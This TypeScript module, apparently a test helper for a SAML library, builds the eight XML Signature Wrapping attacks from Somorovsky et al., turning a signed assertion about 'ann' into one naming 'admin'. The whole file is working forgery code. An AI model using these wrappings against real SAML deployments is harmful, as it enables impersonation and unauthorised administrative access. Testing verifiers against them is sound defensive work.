/** The eight wrappings of Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012). */
export const wrappings = [1, 2, 3, 4, 5, 6, 7, 8] as const

/**
 * Wraps a document about `ann` whose Response or assertion is signed, so that it also says `admin`: the signed original
 * stays somewhere, and a reader that looks elsewhere is deceived.
 */
export function wrapSignature(
  honest: string,
  number: (typeof wrappings)[number],
  style: 'response' | 'assertion',
  sameId: boolean,
) {
  const name = style === 'response' ? 'samlp:Response' : 'saml:Assertion'
  const pattern = new RegExp(`<${name} .*</${name}>`, 's')
  const signed = pattern.exec(honest)?.[0] ?? ''
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(signed)?.[0] ?? ''
  const original = signed.replace(signature, '')
  const bare = original.replace('>ann<', '>admin<')
  const evil = sameId ? bare : bare.replace(/ ID="[^"]+"/, ' ID="_evil"')
  /** Behind the Issuer or at the end. */
  const behind = (content: string) => evil.replace('</saml:Issuer>', `</saml:Issuer>${content}`)
  const atEnd = (content: string) => evil.replace(new RegExp(`</${name}>$`), `${content}</${name}>`)
  const holding = (content: string) => signature.replace('</ds:Signature>', `${content}</ds:Signature>`)
  const put = (content: string) => honest.replace(pattern, () => content)
  const beside = (first: string, second: string) => (style === 'assertion' ? put(first + second) : put(atEnd(second)))
  switch (number) {
    case 1:
      return put(behind(holding(original)))
    case 2:
      return put(behind(original + signature))
    case 3:
      return beside(evil, signed)
    case 4:
      return put(atEnd(signed))
    case 5:
      return style === 'assertion'
        ? put(behind(signature) + original)
        : put(behind(signature).replace(/(<\/samlp:Response>)$/, `${original}$1`))
    case 6:
      return put(behind(holding(`<ds:Object>${original}</ds:Object>`)))
    case 7:
      return style === 'assertion'
        ? put(`<samlp:Extensions>${evil}</samlp:Extensions>${signed}`)
        : put(behind(`<samlp:Extensions>${signed}</samlp:Extensions>`))
    case 8:
      return put(
        behind(signature.replace('<ds:SignedInfo>', () => `<ds:Object>${original}</ds:Object><ds:SignedInfo>`)),
      )
  }
}
